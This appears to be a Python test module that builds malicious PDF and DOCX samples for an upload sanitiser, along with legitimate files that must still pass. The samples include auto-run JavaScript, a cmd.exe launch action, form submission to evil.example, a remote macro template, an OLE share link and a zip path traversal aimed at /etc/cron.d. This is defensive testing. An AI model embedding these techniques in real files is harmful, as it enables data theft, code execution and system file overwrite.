"""Hostile files with active content (issue 13, finding 1), built at test time
with pypdf and zipfile, plus legitimate files that must still be accepted.

Each builder writes one file to `path` and returns it.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.shared import Inches
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from tests.submissions import samples
from tests.submissions.samples import CONTENT_TYPES, DOCUMENT_XML, PACKAGE_RELS

# PDF


def _writer(tmp: Path) -> PdfWriter:
    return PdfWriter(clone_from=samples.good_pdf(tmp))


def _save(writer: PdfWriter, path: Path) -> Path:
    with path.open("wb") as out:
        writer.write(out)
    return path


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def pdf_open_action_javascript(path: Path) -> Path:
    writer = _writer(path.with_suffix(".src.pdf"))
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/JavaScript", JS=TextStringObject("app.alert('x');")
    )
    return _save(writer, path)


def pdf_names_javascript(path: Path) -> Path:
    """Document-level JavaScript in the catalog's /Names /JavaScript tree."""
    writer = _writer(path.with_suffix(".src.pdf"))
    script = _action("/JavaScript", JS=TextStringObject("app.alert('x');"))
    tree = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("init"), writer._add_object(script)]
            )
        }
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )
    return _save(writer, path)


def pdf_launch(path: Path) -> Path:
    writer = _writer(path.with_suffix(".src.pdf"))
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/Launch", F=TextStringObject("cmd.exe")
    )
    return _save(writer, path)


def pdf_page_additional_action(path: Path, kind: str = "/SubmitForm") -> Path:
    """An /AA open action on the first page (kind: /SubmitForm, /ImportData...)."""
    writer = _writer(path.with_suffix(".src.pdf"))
    action = _action(kind, F=TextStringObject("https://evil.example/collect"))
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    return _save(writer, path)


def pdf_with_embedded_executable(path: Path) -> Path:
    writer = _writer(path.with_suffix(".src.pdf"))
    writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\0" * 60)
    return _save(writer, path)


def _link_annotation(action: DictionaryObject) -> DictionaryObject:
    rect = ArrayObject(
        [FloatObject(10), FloatObject(10), FloatObject(200), FloatObject(40)]
    )
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): rect,
            NameObject("/A"): action,
        }
    )


def pdf_with_uri_link(path: Path) -> Path:
    """Legitimate: a link annotation with a /URI action to a web page."""
    writer = _writer(path.with_suffix(".src.pdf"))
    annotation = _link_annotation(
        _action("/URI", URI=TextStringObject("https://tangerangselatankota.go.id/"))
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [writer._add_object(annotation)]
    )
    return _save(writer, path)


def html_before_pdf_header(path: Path) -> Path:
    good = samples.good_pdf(path.with_suffix(".src.pdf")).read_bytes()
    path.write_bytes(b"ab<html><script>alert(1)</script>" + good)
    return path


def html_in_pdf_header(path: Path) -> Path:
    good = samples.good_pdf(path.with_suffix(".src.pdf")).read_bytes()
    line_end = good.index(b"\n")
    path.write_bytes(
        good[:line_end] + b"<html><script>alert(1)</script>" + good[line_end:]
    )
    return path


# DOCX


def _zip(path: Path, extra: dict[str, bytes], content_types: bytes = CONTENT_TYPES):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", PACKAGE_RELS)
        archive.writestr("word/document.xml", DOCUMENT_XML)
        for name, data in extra.items():
            archive.writestr(name, data)
    return path


def _document_rels(*relationships: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{"".join(relationships)}</Relationships>'
    ).encode()


OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def macro_docm_renamed(path: Path) -> Path:
    """A .docm (vbaProject.bin and the macroEnabled main content type) as .docx."""
    content_types = CONTENT_TYPES.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return _zip(
        path,
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"},
        content_types=content_types,
    )


def macro_content_type_only(path: Path) -> Path:
    content_types = CONTENT_TYPES.replace(
        b"</Types>",
        b'<Default Extension="bin" '
        b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return _zip(path, {}, content_types=content_types)


def remote_template_docx(path: Path) -> Path:
    rels = _document_rels(
        f'<Relationship Id="rId9" Type="{OFFICE_RELS}/attachedTemplate" '
        'Target="https://evil.example/template.dotm" TargetMode="External"/>'
    )
    return _zip(path, {"word/_rels/settings.xml.rels": rels})


def file_share_ole_docx(path: Path) -> Path:
    rels = _document_rels(
        f'<Relationship Id="rId7" Type="{OFFICE_RELS}/oleObject" '
        'Target="file://evil-share/payload.xls" TargetMode="External"/>'
    )
    return _zip(path, {"word/_rels/document.xml.rels": rels})


def hyperlink_docx(path: Path, target: str) -> Path:
    rels = _document_rels(
        f'<Relationship Id="rId5" Type="{OFFICE_RELS}/hyperlink" '
        f'Target="{target}" TargetMode="External"/>'
    )
    return _zip(path, {"word/_rels/document.xml.rels": rels})


def embedded_executable_docx(path: Path) -> Path:
    return _zip(path, {"word/embeddings/setup.exe": b"MZ\x90\x00" + b"\0" * 60})


def traversal_docx(path: Path, name: str = "../../../etc/cron.d/x") -> Path:
    return _zip(path, {name: b"x"})


def legitimate_docx(path: Path) -> Path:
    """A DOCX made by python-docx with an image, a web hyperlink and an embedded
    spreadsheet (an OOXML package part), all of which must be kept."""
    image = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(image, format="PNG")
    image.seek(0)
    document = docx.Document()
    document.add_paragraph("Masterplan Smart City")
    document.add_picture(image, width=Inches(1))
    paragraph = document.add_paragraph("Situs: ")
    rel_id = paragraph.part.relate_to(
        "https://tangerangselatankota.go.id/", RT.HYPERLINK, is_external=True
    )
    hyperlink = docx.oxml.OxmlElement("w:hyperlink")
    hyperlink.set(docx.oxml.ns.qn("r:id"), rel_id)
    run = docx.oxml.OxmlElement("w:r")
    text = docx.oxml.OxmlElement("w:t")
    text.text = "tangerangselatankota.go.id"
    run.append(text)
    hyperlink.append(run)
    paragraph._p.append(hyperlink)
    document.save(path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"PK\x03\x04sheet"
        )
    return path
